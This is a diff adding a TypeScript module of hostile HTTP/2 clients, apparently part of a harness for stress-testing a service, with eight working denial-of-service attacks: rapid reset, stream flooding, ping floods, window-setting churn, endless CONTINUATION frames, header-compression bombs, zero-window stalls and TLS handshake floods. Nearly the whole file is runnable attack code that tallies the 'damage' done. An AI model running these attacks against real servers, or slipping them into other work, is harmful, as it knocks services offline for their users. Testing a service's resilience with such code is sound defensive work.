@@ -1,0 +1,194 @@
+// Hostile clients: each attack runs until it is told to stop, opens a new connection where the service closes one, and counts what it did.
+import {
+  FrameConnection,
+  frames,
+  header,
+  type RawRequest,
+  remembered,
+  repeated,
+  requestBlock,
+  settingIds,
+} from "./http2-frames.ts";
+import { openTls } from "./sockets.ts";
+
+export interface Target {
+  readonly port: number;
+  /** What the attack asks for where it asks for anything. */
+  readonly request: RawRequest;
+  /** Connections at a time. */
+  readonly connections: number;
+  readonly isOver: () => boolean;
+}
+
+/** What an attack did. */
+export interface Damage {
+  connections: number;
+  sent: number;
+  answered: number;
+  /** Connections that the service ended. */
+  ended: number;
+}
+
+export type Attack = (target: Target) => Promise<Damage>;
+
+/** Frames in one write: small enough that a connection sees its end before it has sent much more. */
+const batch = 100;
+
+/** Runs `drive` on so many connections at a time, each again and again until the attack is over. */
+async function onConnections(
+  { port, connections, isOver }: Target,
+  drive: (connection: FrameConnection, count: (sent: number) => void) => Promise<void>,
+  settings: readonly (readonly [number, number])[] = [],
+): Promise<Damage> {
+  const damage: Damage = { connections: 0, sent: 0, answered: 0, ended: 0 };
+  const worker = async () => {
+    while (!isOver()) {
+      const connection = await FrameConnection.open(port, settings).catch(() => undefined);
+      if (!connection) continue;
+      damage.connections += 1;
+      let isOurEnd = false;
+      const ending = setInterval(() => {
+        if (!isOver()) return;
+        isOurEnd = true;
+        void connection.close();
+      }, 20);
+      await drive(connection, (sent) => {
+        damage.sent += sent;
+      });
+      clearInterval(ending);
+      damage.answered += connection.answered.size;
+      if (connection.goAwayCode !== undefined || (connection.isClosed && !isOurEnd)) damage.ended += 1;
+      await connection.close();
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, worker));
+  return damage;
+}
+
+const forever =
+  (isOver: () => boolean, makeFrames: (connection: FrameConnection) => Buffer) =>
+  async (connection: FrameConnection, count: (sent: number) => void): Promise<void> => {
+    while (!isOver() && !connection.isClosed) {
+      await connection.send(...Array.from({ length: batch }, () => makeFrames(connection)));
+      count(batch);
+    }
+  };
+
+/** Requests that are canceled in the same breath, as many as a connection survives. */
+const rapidReset: Attack = (target) => {
+  const block = requestBlock(target.request);
+  const resetsMax = 1_100;
+  return onConnections(target, async (connection, count) => {
+    for (let sent = 0; sent < resetsMax && !connection.isClosed; sent += batch) {
+      const streams = Array.from({ length: batch }, () => connection.nextStream());
+      await connection.send(...streams.flatMap((stream) => [frames.headers(stream, block), frames.reset(stream)]));
+      count(batch);
+    }
+    await connection.until(() => connection.goAwayCode !== undefined);
+  });
+};
+
+/** As many requests at a time as the service allows on a connection, each replaced as soon as it is answered. */
+const manyStreams: Attack = (target) => {
+  const block = requestBlock(target.request);
+  const streamsMax = 256;
+  return onConnections(target, async (connection, count) => {
+    let open = 0;
+    let answered = 0;
+    while (!target.isOver() && !connection.isClosed) {
+      open -= connection.answered.size - answered;
+      answered = connection.answered.size;
+      const free = streamsMax - open;
+      open += free;
+      count(free);
+      await connection.send(
+        ...Array.from({ length: free }, () => frames.headers(connection.nextStream(), block)),
+        frames.windowUpdate(0, 1_000_000),
+      );
+      await connection.until(() => connection.answered.size > answered);
+    }
+  });
+};
+
+const pings: Attack = (target) =>
+  onConnections(
+    target,
+    forever(target.isOver, () => frames.ping()),
+  );
+
+/** Each setting of the window concerns every open stream, so many are opened whose answers do not fit into a window of 0. */
+const settings: Attack = (target) => {
+  const block = requestBlock(target.request);
+  return onConnections(
+    target,
+    async (connection, count) => {
+      await connection.send(...Array.from({ length: 256 }, () => frames.headers(connection.nextStream(), block)));
+      let size = 0;
+      await forever(target.isOver, () => {
+        size = 1 - size;
+        return frames.settings(...Array.from({ length: 32 }, () => [settingIds.initialWindowSize, size] as const));
+      })(connection, count);
+    },
+    [[settingIds.initialWindowSize, 0]],
+  );
+};
+
+/** A header block that never ends. */
+const continuations: Attack = (target) =>
+  onConnections(target, async (connection, count) => {
+    await connection.send(frames.headers(1, requestBlock(target.request), { isWhole: false }));
+    await forever(target.isOver, () => frames.continuation(1, header("x-more", "m".repeat(1_000))))(connection, count);
+  });
+
+/** Small header blocks that become large where they are decoded. */
+const headerBombs: Attack = (target) => {
+  const block = requestBlock(target.request);
+  return onConnections(
+    target,
+    forever(target.isOver, (connection) =>
+      frames.headers(
+        connection.nextStream(),
+        Buffer.concat([block, remembered("x-bomb", "b".repeat(3_900)), repeated(150)]),
+      ),
+    ),
+  );
+};
+
+/** Requests whose answers are never taken: the window stays at 0. */
+const closedWindows: Attack = (target) => {
+  const block = requestBlock(target.request);
+  return onConnections(
+    target,
+    async (connection, count) => {
+      await connection.send(...Array.from({ length: 256 }, () => frames.headers(connection.nextStream(), block)));
+      count(256);
+      await connection.closed;
+    },
+    [[settingIds.initialWindowSize, 0]],
+  );
+};
+
+/** Connections that do nothing but be made. */
+const handshakes: Attack = async ({ port, connections, isOver }) => {
+  const damage: Damage = { connections: 0, sent: 0, answered: 0, ended: 0 };
+  const worker = async () => {
+    while (!isOver()) {
+      const socket = await openTls(port, { rejectUnauthorized: false }).catch(() => undefined);
+      socket?.destroy();
+      damage.connections += 1;
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, worker));
+  return damage;
+};
+
+export const attacks = {
+  rapidReset,
+  manyStreams,
+  pings,
+  settings,
+  continuations,
+  headerBombs,
+  closedWindows,
+  handshakes,
+} as const satisfies Record<string, Attack>;
